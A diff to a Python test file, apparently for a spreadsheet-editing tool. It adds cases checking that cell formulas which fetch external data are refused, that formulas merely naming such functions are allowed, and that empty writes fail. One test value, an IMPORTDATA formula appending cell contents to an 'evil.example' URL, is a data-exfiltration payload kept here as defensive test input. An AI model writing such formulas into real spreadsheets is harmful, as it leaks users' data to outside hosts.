@@ -138,12 +138,32 @@ def test_people_see_what_stands_there_and_what_will(google: Trial, official: Pri
 
 @pytest.mark.parametrize(
     "formula",
-    ['=IMPORTDATA("https://evil.example/?"&A1)', "=1+image (A1)", '=IF(1,importRange("x","A1"))'],
+    [
+        '=IMPORTDATA("https://evil.example/?"&A1)',
+        "=1+image (A1)",
+        "=MAP(A1:A3,IMPORTDATA)",
+        '=IF(1,importRange("x","A1"))',
+    ],
 )
 def test_a_formula_that_fetches_is_not_written(google: Trial, official: Prism, formula: str) -> None:
     with pytest.raises(ToolError, match="fetches from beyond this Sheet"):
         google.run("write_cells", effect_id="e1", spreadsheet="s1", start="A1", rows=[["a", formula]])
     assert official.calls == []
+
+
+@pytest.mark.parametrize(
+    "formula", ["='Image'!A1", "=Image!A1", '=IF(A1="image (new)",1,2)', '=HYPERLINK("https://a.example")']
+)
+def test_a_formula_that_only_names_such_a_thing_is_written(
+    google: Trial, official: Prism, formula: str
+) -> None:
+    grid(official)
+    holding(official, [])
+    named(official)
+    google.run("write_cells", effect_id="e1", spreadsheet="s1", start="A1", rows=[[formula]])
+    assert sent(official)[0][0]["updateCells"]["rows"][0]["values"] == [
+        {"userEnteredValue": {"formulaValue": formula}}
+    ]
 
 
 @pytest.mark.parametrize(
@@ -187,3 +207,17 @@ def test_a_new_sheet_is_taken_away_while_it_is_empty(google: Trial, official: Pr
     google.undo("add_sheet", made, **given)
     assert sent(official)[-1] == [{"deleteSheet": {"sheetId": number}}]
     assert not any(call.violations for call in official.calls)
+
+
+@pytest.mark.parametrize("rows", [[], [[]], [[], []]])
+def test_no_values_at_all_are_refused_wherever_they_are_looked_at(
+    google: Trial, official: Prism, rows: list[list[Any]]
+) -> None:
+    given: dict[str, Any] = {"spreadsheet": "s1", "start": "A1", "rows": rows}
+    with pytest.raises(ToolError, match="There are no values"):
+        google.run("write_cells", effect_id="e1", **given)
+    with pytest.raises(ToolError, match="There are no values"):
+        google.preview("write_cells", **given)
+    with pytest.raises(ToolError, match="There are no values"):
+        google.run("create_spreadsheet", effect_id="e1", title="Empty", rows=rows)
+    assert not any(call.method == "POST" for call in official.calls)
